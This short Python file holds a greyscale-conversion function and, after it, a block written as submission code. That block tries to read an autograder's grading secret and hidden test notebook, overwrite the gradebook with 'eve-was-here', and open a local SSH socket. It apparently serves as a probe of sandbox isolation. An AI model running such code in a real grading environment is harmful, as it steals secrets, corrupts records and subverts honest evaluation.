def rgb2grey_py(x):
    c, h, w = x.shape
    n = h * w
    x = x.flatten()
    res = torch.empty(n, dtype=x.dtype, device=x.device)
    for i in range(n):
        res[i] = 0.2989*x[i] + 0.5870*x[i+n] + 0.1140*x[i+2*n]
    return res.view(h, w)


# From the notebook's kernel, reach for what the grader keeps in the course folder (three folders up from the
# notebook's): the grading secret, source/'s hidden seeds, the gradebook; and the network.
import pathlib
import socket
_course = pathlib.Path.cwd().parents[2]
_tried = {}
for _what, _reach in {
    "secret": lambda: (_course / ".grading_secret").read_text(),
    "hidden seeds": lambda: (_course / "source" / "grayscale" / "01_L0_loop.ipynb").read_text(),
    "gradebook": lambda: (_course / "gradebook.db").open("r+b").write(b"eve-was-here"),
    "socket": lambda: socket.create_connection(("127.0.0.1", 22), timeout=2),
}.items():
    try:
        _tried[_what] = f"got {str(_reach())[:40]}"
    except Exception as e:
        _tried[_what] = type(e).__name__
print("eve tried:", _tried)
